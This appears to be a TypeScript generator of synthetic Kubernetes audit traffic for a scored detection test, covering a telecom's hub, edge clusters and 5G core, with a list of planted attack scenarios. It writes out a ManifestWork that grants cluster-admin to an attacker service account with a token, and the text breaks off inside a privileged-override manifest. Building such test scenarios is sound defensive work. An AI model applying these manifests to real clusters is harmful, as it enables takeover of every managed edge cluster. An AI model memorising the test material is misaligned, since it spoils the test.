import { attackKit, pushSteps, type Step, type AttackRequest, type DayEvent, lastScoredOf, LINUX, type Login, MAC, prng, WIN, withAttacks } from './workday.js';

/**
 * A twenty-first replayed day, written as an outside red team and an outside observer of real
 * engineers would after reading docs/risk.md, from situations days 1–20 do not have: a telecom
 * operator (Nordwave, about 30 people on the hub's gateway) whose hub cluster
 * (`kubernetes.hub.nordwave.example`) manages some 200 edge clusters at cell sites and central
 * offices with Open Cluster Management (ManagedCluster, ManifestWork, Placement), Argo CD
 * ApplicationSets with a cluster generator, and a Karmada control plane
 * (`kubernetes.karmada.nordwave.example`) for the 5G core's cloud-native network functions, which
 * run on the regional core cluster (`kubernetes.core-fra.nordwave.example`): Multus
 * NetworkAttachmentDefinitions on SR-IOV VLANs, DPDK user planes with NET_ADMIN, IPC_LOCK and
 * SYS_NICE on hugepages, a PTP daemon that is privileged on the host's network. Warm-up Tuesday
 * 10 November 2026, scored Wednesday 11 November (hours UTC; Frankfurt and the NOC are UTC+1).
 *
 * Routine, as the tools send it:
 * - a 24/7 NOC of six (two a shift, handing over at 05:00, 13:00 and 21:00 UTC) on Windows
 *   workstations behind the NOC's NAT: k9s on the hub (ManagedClusters, their add-ons, the
 *   ManifestWorks' status in the cluster namespaces), the OCM console (the OpenShift console's
 *   API proxy) and Grafana; each incoming shift's handover reads, and the 09:20 fibre cut that
 *   takes a ring of edge clusters offline;
 * - the hub's platform team of three (Berlin office or home): Placements edited, a ManifestWork
 *   pushing the PTP configuration and the linuxptp DaemonSet (privileged, host network: what
 *   PTP needs) to the canary clusters, a new cell site's cluster imported at 10:15 (its cluster
 *   namespace, the ManagedCluster, the KlusterletAddonConfig, the import Secret read), Karmada
 *   PropagationPolicies for the core's functions, ApplicationSets read in Argo CD's UI;
 * - the CNF team of four (Munich office or home) on the core cluster: k9s and logs, `helm
 *   upgrade` of the user plane (a strategic-merge patch of the image and Helm's release Secret),
 *   `kubectl exec` into their functions, NetworkAttachmentDefinitions for the N3 and N6 VLANs
 *   edited, and twice a day a user-plane build server-side applied into their own lab namespace
 *   (a DPDK pod: NET_ADMIN, IPC_LOCK, SYS_NICE, hugepages, two SR-IOV networks);
 * - three field engineers at cell sites: two on LTE/5G (carrier-grade NAT, another /24 of the
 *   carrier's /16 every few requests, now and then another /16), one on a satellite link (IPv6,
 *   the prefix renumbered at noon), reading their sites' clusters' status and the work applied
 *   there, with their sign-in made at the start of the day on the road;
 * - a vendor's support engineer in the 01:00–03:00 UTC maintenance window, through the vendor
 *   jump host, on the AMF they support: its pods, logs, a shell, a restart, its licence Secret;
 * - automation: the network-automation GitLab runners' service account pushing router and RAN
 *   configuration as ConfigMaps in ManifestWorks to the edge clusters every 30 minutes.
 *
 * The attacks, each of a kind days 1–20 do not have (the hub as the weapon against every edge;
 * CNF networking; a NOC and a vendor):
 * - malware on a platform engineer's laptop: a ManifestWork in each of three edge clusters'
 *   namespaces that binds cluster-admin to a service account of its own (and hands it a token);
 * - a platform engineer's token from a VPS: an ApplicationSet with a cluster generator deploying
 *   the attacker's repository to every edge cluster;
 * - malware on the Karmada engineer's laptop: an OverridePolicy whose plaintext overrider makes
 *   the core's user-plane DaemonSet privileged with the host's PIDs on every member cluster;
 * - malware on a CNF engineer's laptop: a NetworkAttachmentDefinition on the management VLAN and
 *   a pod attached to it;
 * - the vendor's kubeconfig left on the shared jump host, used after the window closed;
 * - a field engineer's token used by another subscriber of the same carrier-grade NAT;
 * - the NOC's OCM console session hijacked (a browser extension) and used from elsewhere;
 * - malware on a NOC workstation enumerating the edge clusters' admin kubeconfig Secrets on the hub;
 * - an outgoing NOC operator deleting edge clusters' registrations (ManagedCluster) at handover;
 * - the network-automation runner's token pushing a privileged hostNetwork pod to the edge;
 * - a CNF engineer's kubelogin cache from a VPS: a privileged hostPID pod on the core cluster.
 */

export const D21_TUE = Date.UTC(2026, 10, 10, 0, 0, 0); // warm-up
export const D21_WED = Date.UTC(2026, 10, 11, 0, 0, 0); // scored
const H = 3_600_000;
const M = 60_000;
const S = 1000;

export const HUB = 'kubernetes.hub.nordwave.example';
export const KARMADA = 'kubernetes.karmada.nordwave.example';
export const CORE = 'kubernetes.core-fra.nordwave.example';
/** The OCM console: the OpenShift console's API proxy (examples/stepgate.yaml kubernetes.proxies). */
export const CONSOLE = 'console.localhost';
export const GRAFANA = 'grafana.localhost';
export const ARGOCD = 'argocd.localhost';
export const NOC_NAT = '193.110.40.17';
export const BERLIN = '85.214.3.30';
export const MUNICH = '195.145.90.12';
export const JUMP = '91.198.44.10';
/** A carrier's CGNAT pool (one /16): field engineers move between its /24s every few requests. */
export const CGNAT = (k: number, b = 83) => `176.${b}.${(k * 7) % 40 + 10}.${17 + ((k * 37) % 200)}`;
/** A satellite operator's IPv6 prefix for the terminal (renumbered at noon). */
const SAT = (k: number, renumbered: boolean) => `2a0d:3344:${renumbered ? '1c7' : '1b4'}:${(k % 4).toString(16)}00::${(k % 9) + 1}`;

export const KUBECTL = (os: string, v = 'v1.32.9', commit = 'd5d4a9e') => `kubectl/${v} (${os}) kubernetes/${commit}`;
export const K9S = (os: string) => `k9s/v0.50.6 (${os}) kubernetes/$Format`;
export const HELM = (os: string) => `Helm/3.16.3 (${os}) kubernetes/$Format`;
export const CHROME = (os: string) => `Mozilla/5.0 (${os}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.86 Safari/537.36`;
export const JSON_CT = { 'content-type': 'application/json' };
export const SMP = { 'content-type': 'application/strategic-merge-patch+json' };
export const MERGE = { 'content-type': 'application/merge-patch+json' };
export const APPLY = { 'content-type': 'application/apply-patch+yaml' };
const BROWSER = { accept: 'application/json', 'sec-fetch-mode': 'cors', 'sec-fetch-dest': 'empty' };

type Where = 'noc' | 'office' | 'home' | 'lte' | 'sat' | 'jump';
type Kind = 'noc' | 'platform' | 'cnf' | 'field' | 'vendor';
type Sitting = [number, number, Where];

interface Person {
  name: string;
  short: string;
  idx: number;
  kind: Kind;
  os: string;
  kubectlOs: string;
  warm: Sitting[];
  scored: Sitting[];
  lunch: number;
  /** The NOC shift's first sitting starts with the handover reads. */
  handover?: boolean;
  /** Field engineers: the edge clusters of the sites they visit. */
  sites?: string[];
}

export const EDGE = (n: number) => `edge-${String(n).padStart(4, '0')}`;
export const CNF_NS = ['cnf-upf', 'cnf-smf', 'cnf-amf'];

function staff(rand: () => number): Person[] {
  const out: Person[] = [];
  const add = (short: string, kind: Kind, warm: Sitting[], scored: Sitting[], os: string, o: Partial<Person> = {}) => {
    const j = () => (rand() - 0.5) * 0.2;
    const jit = (s: Sitting[]): Sitting[] => s.map(([a, b, w]) => [Math.max(0, a + j()), Math.min(23.95, b + j()), w]);
    out.push({ name: `d21-${short}@nordwave.example`, short, idx: out.length, kind, os, kubectlOs: os === MAC ? 'darwin/arm64' : os === WIN ? 'windows/amd64' : 'linux/amd64', warm: jit(warm), scored: jit(scored), lunch: 11.2 + rand() * 0.8, ...o });
  };
  // The NOC: two a shift, the same shift both days; the night shift ends the night before's and
  // starts the next at 21:00.
  const shifts: Sitting[][] = [[[0.02, 5.1, 'noc'], [20.9, 23.95, 'noc']], [[4.9, 13.1, 'noc']], [[12.9, 21.1, 'noc']]];
  for (let i = 0; i < 6; i++) add(`noc-${i + 1}`, 'noc', shifts[i % 3]!, shifts[i % 3]!, WIN, { handover: true });
  for (let k = 0; k < 3; k++) {
    const day: Sitting[] = k === 1 ? [[7.2, 11.5, 'home'], [12.4, 16.3, 'office']] : [[7.4 + k * 0.3, 16 + k * 0.2, 'office']];
    add(`platform-${k + 1}`, 'platform', day, day, k === 2 ? LINUX : MAC);
  }
  for (let k = 0; k < 4; k++) {
    const where: Where = k === 3 ? 'home' : 'office';
    add(`cnf-${k + 1}`, 'cnf', [[7.6 + k * 0.2, 16.1 + k * 0.2, where]], [[7.5 + k * 0.2, 16.2 + k * 0.2, where]], k % 2 ? LINUX : MAC);
  }
  add('field-1', 'field', [[6.5, 14.5, 'lte']], [[6.4, 14.8, 'lte']], LINUX, { sites: [EDGE(117), EDGE(118), EDGE(121)] });
  add('field-2', 'field', [[7, 15, 'lte']], [[7.1, 15.2, 'lte']], WIN, { sites: [EDGE(42), EDGE(43)] });
  add('field-3', 'field', [[8, 16, 'sat']], [[7.8, 15.9, 'sat']], LINUX, { sites: [EDGE(188), EDGE(189)] });
  // The vendor only in the scored day's window (the change ticket's two hours).
  add('vendor-1', 'vendor', [], [[1.05, 2.9, 'jump']], LINUX);
  return out;
}

function addressOf(p: Person, where: Where, k: number, h: number): string {
  switch (where) {
    case 'noc':
      return NOC_NAT;
    case 'office':
      return p.kind === 'cnf' ? MUNICH : BERLIN;
    case 'jump':
      return JUMP;
    case 'sat':
      return SAT(k, h >= 12);
    case 'lte':
      // Mostly one /16 of the carrier's pool; every twentieth request from its other /16.
      return CGNAT(k + p.idx, k % 20 === 19 ? 84 : 83);
    case 'home':
      return `91.${40 + p.idx}.${100 + p.idx}.${20 + p.idx}`;
  }
}

type Req = { method: string; path: string; host?: string; headers?: Record<string, string>; body?: string; ua?: 'k9s' | 'helm' | 'browser' };

const OCM = '/apis/cluster.open-cluster-management.io/v1';
const WORK = '/apis/work.open-cluster-management.io/v1';
const NAD = '/apis/k8s.cni.cncf.io/v1';

/** The ManifestWork the platform team pushes: PTP's configuration and the linuxptp daemon (privileged, host network: it disciplines the NIC's clock). */
export function ptpWork(cluster: string, rev: number): object {
  const ds = {
    apiVersion: 'apps/v1',
    kind: 'DaemonSet',
    metadata: { name: 'linuxptp-daemon', namespace: 'openshift-ptp' },
    spec: {
      selector: { matchLabels: { app: 'linuxptp-daemon' } },
      template: {
        metadata: { labels: { app: 'linuxptp-daemon' } },
        spec: {
          hostNetwork: true,
          hostPID: true,
          serviceAccountName: 'linuxptp-daemon',
          nodeSelector: { 'node-role.kubernetes.io/worker': '' },
          containers: [{ name: 'linuxptp-daemon-container', image: 'registry.nordwave.example/ran/linuxptp-daemon@sha256:4b7d0c9e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4', securityContext: { privileged: true }, volumeMounts: [{ name: 'config-volume', mountPath: '/etc/linuxptp' }] }],
          volumes: [{ name: 'config-volume', configMap: { name: 'ptp-configmap' } }],
        },
      },
    },
  };
  const cm = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'ptp-configmap', namespace: 'openshift-ptp' }, data: { ptp4l: `[global]\ndomainNumber 24\nclockClass 248\n# rev ${rev}\n` } };
  return { apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'ptp-config', namespace: cluster }, spec: { workload: { manifests: [cm, ds] } } };
}

/** What the network-automation CI pushes every 30 minutes: a site's router and RAN configuration. */
export function configWork(cluster: string, rev: number): object {
  const cm = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'ran-config', namespace: 'ran' }, data: { 'du.yaml': `cell:\n  pci: ${(rev * 37) % 504}\n  earfcn: 6300\n`, revision: String(rev) } };
  return { apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'ran-config', namespace: cluster }, spec: { workload: { manifests: [cm] } } };
}

/** A NetworkAttachmentDefinition on an SR-IOV VLAN of the core's (N3, N6). */
export function nad(ns: string, name: string, vlan: number, resource: string): object {
  return {
    apiVersion: 'k8s.cni.cncf.io/v1',
    kind: 'NetworkAttachmentDefinition',
    metadata: { name, namespace: ns, annotations: { 'k8s.v1.cni.cncf.io/resourceName': resource } },
    spec: { config: JSON.stringify({ cniVersion: '0.3.1', name, type: 'sriov', vlan, spoofchk: 'on', trust: 'off', ipam: { type: 'whereabouts', range: `10.${100 + vlan % 100}.0.0/24` } }) },
  };
}

/** A DPDK user-plane pod of a CNF build: what the lab applies (capabilities, hugepages, SR-IOV). */
export function upfDeployment(ns: string, tag: string): object {
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'upf', namespace: ns },
    spec: {
      replicas: 1,
      selector: { matchLabels: { app: 'upf' } },
      template: {
        metadata: { labels: { app: 'upf' }, annotations: { 'k8s.v1.cni.cncf.io/networks': 'n3-sriov,n6-sriov' } },
        spec: {
          containers: [{
            name: 'upf',
            image: `registry.nordwave.example/core/upf:${tag}`,
            securityContext: { capabilities: { add: ['NET_ADMIN', 'IPC_LOCK', 'SYS_NICE'] } },
            resources: { requests: { cpu: '8', memory: '8Gi', 'hugepages-1Gi': '4Gi', 'intel.com/sriov_n3': '1', 'intel.com/sriov_n6': '1' }, limits: { cpu: '8', memory: '8Gi', 'hugepages-1Gi': '4Gi', 'intel.com/sriov_n3': '1', 'intel.com/sriov_n6': '1' } },
            volumeMounts: [{ name: 'hugepages', mountPath: '/hugepages' }],
          }],
          volumes: [{ name: 'hugepages', emptyDir: { medium: 'HugePages' } }],
        },
      },
    },
  };
}

function nocTask(rand: () => number): Req[] {
  const c = EDGE(1 + Math.floor(rand() * 200));
  const k = rand();
  if (k < 0.3) return [{ method: 'GET', path: `${OCM}/managedclusters?watch=true`, ua: 'k9s', host: HUB }, { method: 'GET', path: `${WORK}/namespaces/${c}/manifestworks?watch=true`, ua: 'k9s', host: HUB }];
  if (k < 0.5) return [{ method: 'GET', path: `/api/kubernetes${OCM}/managedclusters?limit=250`, ua: 'browser', host: CONSOLE, headers: BROWSER }, { method: 'GET', path: `/api/kubernetes/apis/addon.open-cluster-management.io/v1alpha1/namespaces/${c}/managedclusteraddons`, ua: 'browser', host: CONSOLE, headers: BROWSER }];
  if (k < 0.65) return [{ method: 'GET', path: `/api/ds/query?ds_type=prometheus&requestId=Q${Math.floor(rand() * 999)}`, ua: 'browser', host: GRAFANA, headers: BROWSER }];
  if (k < 0.8) return [{ method: 'GET', path: `/api/v1/namespaces/${c}/events?limit=500`, host: HUB }, { method: 'GET', path: `${WORK}/namespaces/${c}/manifestworks/ran-config`, host: HUB }];
  return [{ method: 'GET', path: `/apis/policy.open-cluster-management.io/v1/namespaces/${c}/policies`, ua: 'k9s', host: HUB }];
}

/** The incoming NOC shift: every edge cluster's state, what failed to apply, the alerts. */
const handover: Req[] = [
  { method: 'GET', path: `${OCM}/managedclusters?limit=500`, host: HUB },
  { method: 'GET', path: `${WORK}/manifestworks?limit=500`, host: HUB },
  { method: 'GET', path: '/api/v1/events?limit=500&fieldSelector=type%3DWarning', host: HUB },
  { method: 'GET', path: '/apis/addon.open-cluster-management.io/v1alpha1/managedclusteraddons?limit=500', host: HUB },
];

function platformTask(rand: () => number, p: Person): Req[] {
  const k = rand();
  const c = EDGE(1 + Math.floor(rand() * 200));
  if (p.short === 'platform-3' && k < 0.35) {
    const pp = { apiVersion: 'policy.karmada.io/v1alpha1', kind: 'PropagationPolicy', metadata: { name: 'smf', namespace: 'cnf-smf' }, spec: { resourceSelectors: [{ apiVersion: 'apps/v1', kind: 'Deployment', name: 'smf' }], placement: { clusterAffinity: { clusterNames: ['core-fra', 'core-ham'] }, replicaScheduling: { replicaSchedulingType: 'Divided', replicaDivisionPreference: 'Weighted' } } } };
    return [{ method: 'GET', path: '/apis/policy.karmada.io/v1alpha1/namespaces/cnf-smf/propagationpolicies', host: KARMADA }, { method: 'GET', path: '/apis/cluster.karmada.io/v1alpha1/clusters', host: KARMADA }, ...(k < 0.1 ? [{ method: 'PATCH', path: '/apis/policy.karmada.io/v1alpha1/namespaces/cnf-smf/propagationpolicies/smf?fieldManager=kubectl-client-side-apply&fieldValidation=Strict', host: KARMADA, headers: SMP, body: JSON.stringify(pp) }] : [])];
  }
  if (k < 0.3) return [{ method: 'GET', path: '/apis/cluster.open-cluster-management.io/v1beta1/namespaces/fleet-config/placements', host: HUB }, { method: 'GET', path: '/apis/cluster.open-cluster-management.io/v1beta1/namespaces/fleet-config/placementdecisions', host: HUB }];
  if (k < 0.4) return [{ method: 'PATCH', path: '/apis/cluster.open-cluster-management.io/v1beta1/namespaces/fleet-config/placements/ran-canary?fieldManager=kubectl-patch', host: HUB, headers: MERGE, body: JSON.stringify({ spec: { numberOfClusters: 5 + Math.floor(rand() * 5), predicates: [{ requiredClusterSelector: { labelSelector: { matchLabels: { ring: 'canary' } } } }] } }) }];
  if (k < 0.6) return [{ method: 'GET', path: '/api/v1/applicationsets?projects=ran', ua: 'browser', host: ARGOCD, headers: BROWSER }, { method: 'GET', path: '/api/v1/applications?projects=ran&selector=', ua: 'browser', host: ARGOCD, headers: BROWSER }];
  if (k < 0.8) return [{ method: 'GET', path: `${OCM}/managedclusters/${c}`, host: HUB }, { method: 'GET', path: `${WORK}/namespaces/${c}/manifestworks`, host: HUB }];
  return [{ method: 'GET', path: '/apis/argoproj.io/v1alpha1/namespaces/argocd/applicationsets', host: HUB }, { method: 'GET', path: '/api/v1/namespaces/open-cluster-management/pods', ua: 'k9s', host: HUB }];
}

function cnfTask(rand: () => number, p: Person, n: number): Req[] {
  const ns = CNF_NS[Math.floor(rand() * CNF_NS.length)]!;
  const fn = ns.slice(4);
  const pod = `${fn}-6c${['9f8d-2xk4p', '9f8d-q7w1m', '4b21-zz9rt'][Math.floor(rand() * 3)]}`;
  const lab = `cnf-lab-${p.short}`;
  const k = rand();
  // Twice a day, a user-plane build applied in the engineer's own lab namespace.
  if (n === 3 || n === 17) {
    return [
      { method: 'PATCH', path: `/apis/apps/v1/namespaces/${lab}/deployments/upf?fieldManager=kubectl&force=true`, host: CORE, headers: APPLY, body: JSON.stringify(upfDeployment(lab, `1.${40 + n}.${Math.floor(rand() * 9)}`)) },
      { method: 'GET', path: `/api/v1/namespaces/${lab}/pods?labelSelector=app%3Dupf&watch=true`, host: CORE, ua: 'k9s' },
      { method: 'GET', path: `/api/v1/namespaces/${lab}/pods/upf-5d7c9-${n}x/log?container=upf&tailLines=300`, host: CORE },
    ];
  }
  if (k < 0.3) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods?watch=true`, ua: 'k9s', host: CORE }, { method: 'GET', path: `/api/v1/namespaces/${ns}/events?watch=true`, ua: 'k9s', host: CORE }];
  if (k < 0.48) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/pods/${pod}/log?container=${fn}&tailLines=500`, host: CORE }];
  if (k < 0.56) return [{ method: 'POST', path: `/api/v1/namespaces/${ns}/pods/${pod}/exec?command=vppctl&command=show&command=interface&container=${fn}&stdin=true&stdout=true&tty=true`, host: CORE }];
  if (k < 0.64) {
    const v = 12 + Math.floor(rand() * 30);
    return [
      { method: 'GET', path: `/apis/apps/v1/namespaces/${ns}/deployments/${fn}`, ua: 'helm', host: CORE },
      { method: 'PATCH', path: `/apis/apps/v1/namespaces/${ns}/deployments/${fn}?fieldManager=helm`, ua: 'helm', host: CORE, headers: SMP, body: JSON.stringify({ spec: { template: { spec: { containers: [{ name: fn, image: `registry.nordwave.example/core/${fn}:2.${v}.1` }] } } } }) },
      { method: 'POST', path: `/api/v1/namespaces/${ns}/secrets`, ua: 'helm', host: CORE, headers: JSON_CT, body: JSON.stringify({ apiVersion: 'v1', kind: 'Secret', type: 'helm.sh/release.v1', metadata: { name: `sh.helm.release.v1.${fn}.v${v}`, namespace: ns, labels: { owner: 'helm', name: fn, version: String(v), status: 'pending-upgrade' } }, data: { release: 'H4sIAAAAAAAC' } }) },
    ];
  }
  if (k < 0.72) {
    const which = rand() < 0.5 ? ['n3-sriov', 13, 'intel.com/sriov_n3'] as const : ['n6-sriov', 16, 'intel.com/sriov_n6'] as const;
    return [{ method: 'GET', path: `${NAD}/namespaces/${ns}/network-attachment-definitions`, host: CORE }, ...(k < 0.68 ? [{ method: 'PATCH', path: `${NAD}/namespaces/${ns}/network-attachment-definitions/${which[0]}?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, host: CORE, headers: MERGE, body: JSON.stringify(nad(ns, which[0], which[1], which[2])) }] : [])];
  }
  if (k < 0.8) return [{ method: 'GET', path: '/apis/sriovnetwork.openshift.io/v1/namespaces/openshift-sriov-network-operator/sriovnetworknodepolicies', host: CORE }, { method: 'GET', path: '/api/v1/nodes?labelSelector=feature.node.kubernetes.io%2Fnetwork-sriov.capable%3Dtrue', host: CORE }];
  if (k < 0.86) return [{ method: 'GET', path: `/api/v1/namespaces/${ns}/secrets/${fn}-tls`, host: CORE }];
  return [{ method: 'GET', path: `/apis/policy.karmada.io/v1alpha1/namespaces/${ns}/propagationpolicies`, host: KARMADA }, { method: 'GET', path: `/apis/work.karmada.io/v1alpha2/namespaces/${ns}/resourcebindings`, host: KARMADA }];
}

function fieldTask(rand: () => number, p: Person): Req[] {
  const c = p.sites![Math.floor(rand() * p.sites!.length)]!;
  const k = rand();
  if (k < 0.4) return [{ method: 'GET', path: `${OCM}/managedclusters/${c}`, host: HUB }, { method: 'GET', path: `/apis/internal.open-cluster-management.io/v1beta1/namespaces/${c}/managedclusterinfos/${c}`, host: HUB }];
  if (k < 0.7) return [{ method: 'GET', path: `${WORK}/namespaces/${c}/manifestworks`, host: HUB }, { method: 'GET', path: `${WORK}/namespaces/${c}/manifestworks/ran-config`, host: HUB }];
  if (k < 0.9) return [{ method: 'GET', path: `/api/v1/namespaces/${c}/events?limit=200`, host: HUB }];
  return [{ method: 'GET', path: `/apis/addon.open-cluster-management.io/v1alpha1/namespaces/${c}/managedclusteraddons`, host: HUB }];
}

function vendorTask(rand: () => number, n: number): Req[] {
  const pod = `amf-7b9c${['d-4kq2x', 'd-8mn3p'][n % 2]}`;
  const k = rand();
  if (n === 4) return [{ method: 'DELETE', path: `/api/v1/namespaces/cnf-amf/pods/${pod}`, host: CORE }, { method: 'GET', path: '/api/v1/namespaces/cnf-amf/pods?watch=true', host: CORE }];
  if (n === 2) return [{ method: 'GET', path: '/api/v1/namespaces/cnf-amf/secrets/amf-license', host: CORE }];
  if (k < 0.4) return [{ method: 'GET', path: '/api/v1/namespaces/cnf-amf/pods', host: CORE }, { method: 'GET', path: `/api/v1/namespaces/cnf-amf/pods/${pod}/log?container=amf&tailLines=1000`, host: CORE }];
  if (k < 0.7) return [{ method: 'POST', path: `/api/v1/namespaces/cnf-amf/pods/${pod}/exec?command=amf-cli&command=show&command=ngap&container=amf&stdin=true&stdout=true&tty=true`, host: CORE }];
  return [{ method: 'GET', path: '/api/v1/namespaces/cnf-amf/events?limit=500', host: CORE }, { method: 'GET', path: '/apis/apps/v1/namespaces/cnf-amf/statefulsets/amf', host: CORE }];
}

/** The 09:20 fibre cut: a ring of edge clusters unavailable; the NOC on shift follows it. */
function incident(rand: () => number): Req[] {
  const c = EDGE(60 + Math.floor(rand() * 12));
  const k = rand();
  if (k < 0.4) return [{ method: 'GET', path: `${OCM}/managedclusters?labelSelector=ring%3Dmuc-south`, host: HUB }, { method: 'GET', path: `${OCM}/managedclusters/${c}`, host: HUB }];
  if (k < 0.7) return [{ method: 'GET', path: `/api/kubernetes/apis/internal.open-cluster-management.io/v1beta1/namespaces/${c}/managedclusterinfos/${c}`, ua: 'browser', host: CONSOLE, headers: BROWSER }];
  return [{ method: 'GET', path: `/api/v1/namespaces/${c}/events?limit=500`, host: HUB }, { method: 'GET', path: '/apis/coordination.k8s.io/v1/namespaces/' + c + '/leases', host: HUB }];
}

export function workday21(seed = 191): DayEvent[] {
  const rand = prng(seed * 2_654_435_761 + 21);
  const people = staff(rand);
  const events: DayEvent[] = [];
  for (const day of [D21_TUE, D21_WED]) {
    const scored = day === D21_WED;
    const at = (h: number) => day + h * H;
    for (const p of people) {
      const mine: DayEvent[] = [];
      let login: Login | undefined;
      let last = -Infinity;
      let k = 0;
      const uaOf = (q: Req) => (q.ua === 'k9s' ? K9S(p.kubectlOs) : q.ua === 'helm' ? HELM(p.kubectlOs) : q.ua === 'browser' ? CHROME(p.os) : KUBECTL(p.kubectlOs));
      const push = (t: number, q: Req, where: Where, l: Login) =>
        mine.push({ at: Math.round(t), actor: p.name, scored, ip: addressOf(p, where, k++, (t - day) / H), ua: uaOf(q), login: l, method: q.method, path: q.path, host: q.host ?? HUB, ...(q.headers ? { headers: q.headers } : {}), ...(q.body !== undefined ? { body: q.body } : {}) });
      let n = 0;
      for (const [from, to, where] of scored ? p.scored : p.warm) {
        if (login === undefined || from - last > 2) login = { sub: p.name, sid: `${p.name}:${day}:${Math.round(from * 10)}`, authTime: Math.floor((at(from) - 40 * S) / 1000), acr: 'urn:stepgate:aal2' };
        last = to;
        const l = login;
        let t = at(from);
        if (p.handover) handover.forEach((q, i) => push(t + i * 4 * S, q, where, l));
        t += 2 * M;
        while (t < at(to)) {
          const h = (t - day) / H;
          if (p.kind !== 'noc' && h >= p.lunch && h < p.lunch + 0.75 && from < p.lunch && to > p.lunch + 0.75) {
            t = at(p.lunch + 0.75) + S;
            continue;
          }
          const reqs = p.kind === 'noc' ? nocTask(rand) : p.kind === 'platform' ? platformTask(rand, p) : p.kind === 'cnf' ? cnfTask(rand, p, n) : p.kind === 'field' ? fieldTask(rand, p) : vendorTask(rand, n);
          n++;
          const gap = 1500 + rand() * 2500;
          reqs.forEach((q, i) => push(t + i * gap, q, where, l));
          t += p.kind === 'noc' ? 6 * M + rand() * 10 * M : p.kind === 'vendor' ? 4 * M + rand() * 6 * M : 4 * M + rand() * 10 * M;
        }
      }
      const l0 = mine[0]?.login;
      if (l0 !== undefined && p.short === 'platform-1') {
        // The PTP rollout to the canary ring at 09:00: one ManifestWork per cluster, a minute apart.
        const base = { actor: p.name, scored, ip: BERLIN, ua: KUBECTL(p.kubectlOs), login: l0, host: HUB };
        for (const [i, c] of [EDGE(3), EDGE(7), EDGE(11)].entries()) mine.push({ ...base, at: at(9 + i / 60), method: 'POST', path: `${WORK}/namespaces/${c}/manifestworks?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: JSON_CT, body: JSON.stringify(ptpWork(c, scored ? 2 : 1)) });
        if (scored) {
          // A new cell site's cluster imported at 10:15.
          const c = EDGE(207);
          const mc = { apiVersion: 'cluster.open-cluster-management.io/v1', kind: 'ManagedCluster', metadata: { name: c, labels: { ring: 'muc-north', vendor: 'OpenShift', site: 'muc-0207' } }, spec: { hubAcceptsClient: true } };
          const kac = { apiVersion: 'agent.open-cluster-management.io/v1', kind: 'KlusterletAddonConfig', metadata: { name: c, namespace: c }, spec: { applicationManager: { enabled: true }, policyController: { enabled: true }, searchCollector: { enabled: false }, certPolicyController: { enabled: true } } };
          const steps: Step[] = [
            [10.25, 'POST', '/api/v1/namespaces', JSON_CT, JSON.stringify({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: c } })],
            [10.26, 'POST', `${OCM}/managedclusters`, JSON_CT, JSON.stringify(mc)],
            [10.27, 'POST', `/apis/agent.open-cluster-management.io/v1/namespaces/${c}/klusterletaddonconfigs`, JSON_CT, JSON.stringify(kac)],
            [10.3, 'GET', `/api/v1/namespaces/${c}/secrets/${c}-import`],
            [10.5, 'GET', `${OCM}/managedclusters/${c}`],
          ];
          pushSteps(mine, base, at, steps);
        }
      }
      mine.sort((a, b) => a.at - b.at);
      events.push(...mine);
    }
    if (scored) {
      // The fibre cut: the morning shift's first operator follows it from 09:20 to 10:30.
      const noc = people.find((p) => p.short === 'noc-2')!;
      const own = events.filter((e) => e.actor === noc.name && e.scored && e.at <= at(9.33)).pop()!;
      for (let t = at(9.33); t < at(10.5); t += 2 * M + rand() * 3 * M) incident(rand).forEach((q, j) => events.push({ at: Math.round(t + j * 2500), actor: noc.name, scored, ip: NOC_NAT, ua: q.ua === 'browser' ? CHROME(WIN) : KUBECTL(noc.kubectlOs), login: own.login, method: q.method, path: q.path, host: q.host ?? HUB, ...(q.headers ? { headers: q.headers } : {}) }));
    }
    // The network-automation runners (GitLab, in the hub's VPC): a site's configuration every 30 minutes.
    const ci: Login = { sub: 'system:serviceaccount:netauto:gitlab-deployer', sid: '', authTime: undefined, acr: 'urn:stepgate:aal1', serviceAccount: true };
    for (let j = 0; j < 30; j++) {
      const t = day + 6 * H + j * 30 * M;
      const c = EDGE(1 + ((j * 37 + seed) % 200));
      const base = { actor: 'ci', scored, ip: `10.80.${j % 4}.${(j * 13) % 250 + 2}`, ua: KUBECTL('linux/amd64'), login: ci, host: HUB };
      events.push({ ...base, at: t, method: 'GET', path: `${WORK}/namespaces/${c}/manifestworks/ran-config` });
      events.push({ ...base, at: t + 5 * S, method: 'PATCH', path: `${WORK}/namespaces/${c}/manifestworks/ran-config?fieldManager=kubectl-client-side-apply&fieldValidation=Strict`, headers: MERGE, body: JSON.stringify(configWork(c, j)) });
    }
  }
  events.sort((a, b) => a.at - b.at);
  return withAttacks(events, attacks21(people, events));
}

/** A ClusterRoleBinding of cluster-admin to the attacker's own service account, with a token for it. */
export function adminWork(cluster: string): object {
  const sa = { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'ran-telemetry', namespace: 'kube-system' } };
  const crb = { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: { name: 'ran-telemetry-reader' }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'ran-telemetry', namespace: 'kube-system' }] };
  const token = { apiVersion: 'v1', kind: 'Secret', type: 'kubernetes.io/service-account-token', metadata: { name: 'ran-telemetry-token', namespace: 'kube-system', annotations: { 'kubernetes.io/service-account.name': 'ran-telemetry' } } };
  return { apiVersion: 'work.open-cluster-management.io/v1', kind: 'ManifestWork', metadata: { name: 'ran-telemetry', namespace: cluster }, spec: { workload: { manifests: [sa, crb, token] } } };
}

/** Karmada's OverridePolicy: JSON-patch-like operations applied to the selected resource on every member cluster. */
export function privilegedOverride(ns: string, name: string): object {
  return {
    apiVersion: 'policy.karmada.io/v1alpha1',
    kind: 'OverridePolicy',
    metadata: { name: `${name}-tuning`, namespace: ns },
    spec: {
